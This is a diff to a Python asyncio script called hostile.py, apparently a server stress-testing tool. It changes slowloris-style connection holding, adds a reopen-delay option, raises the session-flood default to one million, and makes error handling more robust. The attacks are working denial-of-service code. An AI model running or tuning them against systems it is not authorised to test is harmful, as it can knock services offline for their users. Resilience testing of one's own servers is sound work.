@@ -95,9 +95,10 @@ class Held:
                 "reset_by_server_s": spans(self.reset_after)}
 
 
-async def hold(stats, port, head, drip, interval, deadline, host):
+async def hold(stats, port, head, drip, args, deadline):
     """Holds one connection to `port` until `deadline`, sending `head` and then one byte of
-    `drip` every `interval`; reopens it whenever the server closes it."""
+    `drip` every --interval; reopens it --reopen-after seconds after the server closed it."""
+    host, interval, reopen_after = args.host, args.interval, args.reopen_after
     while now() < deadline:
         i = 0  # each connection drips from the start of `drip`, so its head stays valid
         try:
@@ -140,7 +141,7 @@ async def hold(stats, port, head, drip, interval, deadline, host):
         finally:
             stats.open_now -= 1
             writer.close()
-        await asyncio.sleep(0.05)
+        await asyncio.sleep(reopen_after)
 
 
 async def holding(attack, ports, conns, head, drip, args, deadline):
@@ -151,7 +152,7 @@ async def holding(attack, ports, conns, head, drip, args, deadline):
         if now() >= deadline:
             break
         tasks.append(asyncio.create_task(hold(
-            stats, ports[n % len(ports)], head, drip, args.interval, deadline, args.host)))
+            stats, ports[n % len(ports)], head, drip, args, deadline)))
         await asyncio.sleep(1.0 / args.open_rate)
     await asyncio.gather(*tasks)
     return stats.summary()
@@ -204,7 +205,8 @@ class Lane:
                     asyncio.open_connection(self.host, self.port), CONNECT_TIMEOUT)
             self.writer.write(request)
             return await asyncio.wait_for(read_response(self.reader), timeout)
-        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ValueError) as e:
+        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError,
+                asyncio.LimitOverrunError, ValueError, IndexError) as e:
             self.errors[error_kind(e)] += 1
             if self.writer is not None:
                 self.writer.close()
@@ -339,7 +341,9 @@ async def main(args):
     if not jobs:
         sys.exit("hostile.py: no attack given (see --help)")
     started = now()
-    for summary in await asyncio.gather(*jobs):
+    for summary in await asyncio.gather(*jobs, return_exceptions=True):
+        if isinstance(summary, Exception):  # one attack's bug must not lose the others' figures
+            summary = {"attack": "failed", "error": repr(summary)}
         print(json.dumps(summary), flush=True)
     usage = resource.getrusage(resource.RUSAGE_SELF)
     print(json.dumps({"attack": "attacker", "wall_s": round(now() - started, 1),
@@ -365,19 +369,23 @@ def parse():
                    help="most connections spread holds (default 6000)")
     p.add_argument("--open-rate", type=float, default=2000.0,
                    help="connections each holding attack opens per second (default 2000)")
+    p.add_argument("--reopen-after", type=float, default=0.05,
+                   help="seconds before a closed connection is reopened (default 0.05)")
     p.add_argument("--interval", type=float, default=2.0,
                    help="seconds between the bytes slowloris and slow-body drip (default 2)")
     p.add_argument("--lanes", type=int, default=8, help="session lanes (default 8)")
     p.add_argument("--session-rate", type=float, default=1000.0,
                    help="initialize calls per second over all lanes, 0 unbounded (default 1000)")
-    p.add_argument("--max-sessions", type=int, default=200000,
-                   help="most initialize calls in all (default 200000)")
+    p.add_argument("--max-sessions", type=int, default=1000000,
+                   help="most initialize calls in all (default 1000000)")
     p.add_argument("--bomb-lanes", type=int, default=2, help="bomb lanes (default 2)")
     args = p.parse_args()
     if args.duration <= 0 or args.duration > 3600:
         p.error("--for must be in (0, 3600]")
     if min(args.conns, args.spread_max, args.lanes, args.bomb_lanes) < 1 or args.open_rate <= 0:
         p.error("counts and --open-rate must be positive")
+    if args.interval <= 0 or args.reopen_after < 0 or args.session_rate < 0:
+        p.error("--interval must be positive, --reopen-after and --session-rate not negative")
     return args
 
 
